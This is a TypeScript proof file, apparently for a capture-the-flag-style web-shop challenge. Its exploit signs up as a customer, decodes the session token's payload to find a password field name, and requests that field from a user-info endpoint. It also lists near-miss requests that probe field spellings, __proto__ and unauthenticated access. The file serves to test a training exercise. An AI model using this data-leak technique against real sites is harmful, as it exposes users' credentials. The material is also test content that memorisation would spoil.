import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const ask = async (attacker: Attacker, query: string) => {
  const { token } = await attacker.becomeCustomer()
  return { token, answer: await attacker.get(`/rest/user/whoami${query}`) }
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // The shop's pages request fields by name. The payload of the token lists the other field names.
    const { token } = await ask(attacker, '?fields=role')
    const { data } = JSON.parse(Buffer.from(token.split('.')[1]!, 'base64url').toString('utf8'))
    const secret = Object.keys(data).find((name) => /^pass/.test(name)) ?? 'password'
    await attacker.get(`/rest/user/whoami?fields=id,${secret}`)
  },
  nearMisses: {
    'asking for no fields': (attacker) => ask(attacker, ''),
    'asking for other fields': (attacker) => ask(attacker, '?fields=id,email,role'),
    'another spelling of the field': (attacker) => ask(attacker, '?fields=Password,passwordHash,password.hash'),
    'a field that every object has': (attacker) => ask(attacker, '?fields=constructor,__proto__'),
    'another name for the parameter': (attacker) => ask(attacker, '?field=password'),
    'a visitor who is not signed in': (attacker) => attacker.get('/rest/user/whoami?fields=password'),
    'the list of accounts': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.get('/api/Users')
    },
  },
})
